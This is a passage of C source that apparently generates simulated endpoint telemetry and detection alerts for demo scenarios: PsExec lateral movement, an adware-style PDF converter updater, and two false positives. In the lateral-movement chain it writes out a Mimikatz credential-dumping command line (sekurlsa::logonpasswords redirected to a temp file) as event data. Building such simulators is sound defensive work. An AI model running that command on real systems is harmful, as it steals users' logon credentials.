		net_in(g, sys, a->t0 + US_SEC, src->ip, 445);
	char svc_sha[65];
	file_hashes("psexesvc.exe-2.43", 0, svc_sha, NULL, NULL);
	ev_file(g, sys, t, EV_FILE_CREATE, "C:\\Windows\\PSEXESVC.exe", svc_sha);
	ev_reg(g, svcs, t + 300 * US_MS, EV_REGISTRY_SET,
	       "HKLM\\System\\CurrentControlSet\\Services\\PSEXESVC\\ImagePath", "%SystemRoot%\\PSEXESVC.exe");
	if (a->blocked) {
		set_alert(a, tool, exe_sha, "HackTool:Win32/Mimikatz.D", t + 2 * US_SEC);
		return;
	}
	struct proc *svc = run_app(g, svcs, "PSEXESVC.exe", NULL, t + 1 * US_SEC, 0);
	svc->user = "NT AUTHORITY\\SYSTEM";
	struct proc *cmd = lolbin(g, svc, "cmd.exe",
	                          "/c \"C:\\Windows\\Temp\\svcupd.exe privilege::debug sekurlsa::logonpasswords exit > "
	                          "C:\\Windows\\Temp\\out.txt\"", t + 2 * US_SEC);
	ev_file(g, cmd, t + 2100 * US_MS, EV_FILE_CREATE, "C:\\Windows\\Temp\\out.txt", NULL);
	struct proc *mk = evil(g, cmd, tool, "C:\\Windows\\Temp\\svcupd.exe  privilege::debug sekurlsa::logonpasswords exit",
	                       t + 2500 * US_MS, exe_sha, true);
	set_alert(a, tool, exe_sha, "HackTool:Win32/Mimikatz.D", t + 3 * US_SEC);
	ev_load(g, mk, t + 2700 * US_MS, "C:\\Windows\\System32\\samlib.dll", NULL, true, "Microsoft Windows");
	ev_load(g, mk, t + 2750 * US_MS, "C:\\Windows\\System32\\vaultcli.dll", NULL, true, "Microsoft Windows");
	ev_file(g, cmd, t + 4 * US_SEC, EV_FILE_WRITE, "C:\\Windows\\Temp\\out.txt", NULL);
	ev_proc_end(g, mk, t + 5 * US_SEC);
	ev_proc_end(g, cmd, t + 5200 * US_MS);
	ev_proc_end(g, svc, t + 30 * US_SEC);
	ev_file(g, sys, t + 45 * US_SEC, EV_FILE_DELETE, "C:\\Windows\\PSEXESVC.exe", NULL);
	ev_reg(g, svcs, t + 46 * US_SEC, EV_REGISTRY_DELETE,
	       "HKLM\\System\\CurrentControlSet\\Services\\PSEXESVC", NULL);
}

static const char PUA_EXE[] = "C:\\Program Files (x86)\\PDFConverterFree\\pdfcupd.exe";

static void ch_pua(struct epgen *g, struct host_plan *hp, struct plan_alert *a, int n)
{
	char exe_sha[65];
	/* one release of the updater for a group (or alert) */
	mal_hash(g->seed, "pua-updater", a->group != 0 ? 1000 + a->group : n, exe_sha);
	if (a->rerun) {
		/* the scheduled task runs the updater again */
		struct proc *sched = boot_proc(hp, a->t0, "sched");
		if (a->blocked) {
			set_alert(a, PUA_EXE, exe_sha, "PUA:Win32/Presenoker", a->t0 + 500 * US_MS);
			return;
		}
		struct proc *u = evil(g, sched, PUA_EXE, "\"C:\\Program Files (x86)\\PDFConverterFree\\pdfcupd.exe\" /check",
		                      a->t0, exe_sha, true);
		u->user = "NT AUTHORITY\\SYSTEM";
		set_alert(a, PUA_EXE, exe_sha, "PUA:Win32/Presenoker", a->t0 + 800 * US_MS);
		ev_net(g, u, a->t0 + 2 * US_SEC, C2[C2_PDF].domain, C2[C2_PDF].ip, 443, true);
		ev_proc_end(g, u, a->t0 + 20 * US_SEC);
		return;
	}
	struct session *s = need_session(g, hp, a->t0);
	int64_t t = a->t0;
	char setup_sha[65];
	mal_hash(g->seed, "pua-setup", n, setup_sha);
	char *setup = xprintf("%s\\Downloads\\PDFConverterFree_Setup.exe", g->e->profile);
	t = ev_net(g, s->browser, t, C2[C2_PDF].domain, C2[C2_PDF].ip, 443, true);
	ev_file(g, s->browser, t + 3 * US_SEC, EV_FILE_CREATE, setup, setup_sha);
	char *url = xprintf("https://%s/files/PDFConverterFree_Setup.exe", C2[C2_PDF].domain);
	ev_stream(g, s->browser, t + 3100 * US_MS, setup, setup_sha, url, "https://www.google.co.jp/");
	free(url);
	struct proc *su = evil(g, s->explorer, setup, setup, t + 20 * US_SEC, setup_sha, true);
	su->integrity = "High";
	ev_file(g, su, t + 25 * US_SEC, EV_FILE_CREATE, PUA_EXE, exe_sha);
	ev_file(g, su, t + 26 * US_SEC, EV_FILE_CREATE, "C:\\Windows\\System32\\Tasks\\PDFConverterFree Update", NULL);
	ev_reg(g, su, t + 26 * US_SEC, EV_REGISTRY_SET,
	       "HKLM\\SOFTWARE\\WOW6432Node\\PDFConverterFree\\InstallDir", "C:\\Program Files (x86)\\PDFConverterFree");
	ev_reg(g, su, t + 27 * US_SEC, EV_REGISTRY_SET,
	       "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Uninstall\\PDFConverterFree\\DisplayName",
	       "PDF Converter Free");
	if (a->blocked) {
		set_alert(a, PUA_EXE, exe_sha, "PUA:Win32/Presenoker", t + 25500 * US_MS);
		ev_proc_end(g, su, t + 30 * US_SEC);
		free(setup);
		return;
	}
	struct proc *u = evil(g, su, PUA_EXE, "\"C:\\Program Files (x86)\\PDFConverterFree\\pdfcupd.exe\" /install",
	                      t + 30 * US_SEC, exe_sha, true);
	set_alert(a, PUA_EXE, exe_sha, "PUA:Win32/Presenoker", t + 30800 * US_MS);
	ev_net(g, u, t + 32 * US_SEC, C2[C2_PDF].domain, C2[C2_PDF].ip, 443, true);
	ev_proc_end(g, u, t + 40 * US_SEC);
	ev_proc_end(g, su, t + 45 * US_SEC);
	free(setup);
}

static const char INHOUSE[] = "C:\\Program Files\\社内ツール\\勤怠入力\\勤怠入力.exe";

static void ch_inhouse(struct epgen *g, struct host_plan *hp, struct plan_alert *a, int n)
{
	(void)n;
	struct session *s = need_session(g, hp, a->t0);
	char sha[65];
	file_hashes(INHOUSE, g->seed, sha, NULL, NULL);
	int64_t t = a->t0;
	if (a->blocked) {
		set_alert(a, INHOUSE, sha, "Program:Win32/Wacapew.C!ml", t + 400 * US_MS);
		return;
	}
	struct proc *p = run_app(g, s->explorer, "勤怠入力.exe", NULL, t, 0);
	set_alert(a, INHOUSE, sha, "Program:Win32/Wacapew.C!ml", t + 600 * US_MS);
	char *ini = xprintf("%s\\AppData\\Roaming\\勤怠入力\\settings.ini", g->e->profile);
	ev_file(g, p, t + US_SEC, EV_FILE_READ, ini, NULL);
	free(ini);
	char ip[24];
	snprintf(ip, sizeof ip, "%s.10.5", g->e->t->net);
	ev_net(g, p, t + 2 * US_SEC, NULL, ip, 8080, false);
	char *csv = xprintf("%s\\AppData\\Roaming\\勤怠入力\\履歴.csv", g->e->profile);
	ev_file(g, p, t + 90 * US_SEC, EV_FILE_WRITE, csv, NULL);
	free(csv);
	ev_proc_end(g, p, t + 3 * US_MIN);
}

static void ch_devtool(struct epgen *g, struct host_plan *hp, struct plan_alert *a, int n)
{
	struct session *s = need_session(g, hp, a->t0);
	const char *proj = "BatchTools";
	char sha[65];
	mal_hash(g->seed, "devtool", n, sha);
	int64_t t = a->t0;
	struct proc *cmd = lolbin(g, s->explorer, "cmd.exe", "/k cd /d C:\\dev\\BatchTools", t);
	char *args = xprintf("C:\\dev\\%s\\%s.sln /t:Publish /p:Configuration=Release", proj, proj);
	struct proc *mb = run_app(g, cmd, "MSBuild.exe", args, t + 5 * US_SEC, 0);
	free(args);
	char *out = xprintf("C:\\dev\\%s\\bin\\Release\\tools\\DataPacker.exe", proj);
	for (int i = 0; i < 6; i++) {
		char *obj = xprintf("C:\\dev\\%s\\obj\\Release\\%s%d.obj", proj, "Packer", i);
		ev_file(g, mb, t + (8 + i) * US_SEC, EV_FILE_CREATE, obj, NULL);
		free(obj);
	}
	ev_file(g, mb, t + 20 * US_SEC, EV_FILE_CREATE, out, sha);
	ev_proc_end(g, mb, t + 22 * US_SEC);
	if (a->blocked) {
		set_alert(a, out, sha, "Trojan:Win32/Wacatac.B!ml", t + 21 * US_SEC);
		free(out);
		return;
	}
	char *pargs = xprintf("\"%s\" --pack C:\\dev\\%s\\data --out C:\\dev\\%s\\dist\\data.pak", out, proj, proj);
	struct proc *p = evil(g, cmd, out, pargs, t + 35 * US_SEC, sha, false);
	free(pargs);
	ev_image_loads(g, p, 0, -1);
	set_alert(a, out, sha, "Trojan:Win32/Wacatac.B!ml", t + 35500 * US_MS);
	char *pak = xprintf("C:\\dev\\%s\\dist\\data.pak", proj);
	ev_file(g, p, t + 38 * US_SEC, EV_FILE_CREATE, pak, NULL);
	free(pak);
	ev_proc_end(g, p, t + 50 * US_SEC);
	ev_proc_end(g, cmd, t + 20 * US_MIN);
	free(out);
}

void gen_chains(struct epgen *g, struct host_plan *hp, struct demo_plan *p,
                const struct endpoint *eps, size_t neps)
{
	(void)neps;
	for (size_t i = 0; i < p->n; i++) {
		struct plan_alert *a = &p->a[i];
		int n = (int)i + 1;
		if (a->src_ep == g->e->idx && a->kind == CH_LATERAL)
			ch_lateral_src(g, hp, a, &eps[a->ep]);
		if (a->ep != g->e->idx)
			continue;
		switch (a->kind) {
		case CH_MACRO: ch_macro(g, hp, a, n); break;
		case CH_SCRIPT: ch_script(g, hp, a, n); break;
		case CH_LOLBIN: ch_lolbin(g, hp, a, n); break;
		case CH_RUNKEY: ch_runkey(g, hp, a, n); break;
		case CH_LATERAL: ch_lateral(g, hp, a, n, a->src_ep >= 0 ? &eps[a->src_ep] : NULL); break;
		case CH_PUA: ch_pua(g, hp, a, n); break;
		case CH_INHOUSE: ch_inhouse(g, hp, a, n); break;
		case CH_DEVTOOL: ch_devtool(g, hp, a, n); break;
		default: break;
		}
		if (a->path == NULL)
			die("plan: alert %zu (%s on %s) made no detection", i + 1, chain_name(a->kind), g->e->host);
	}
}
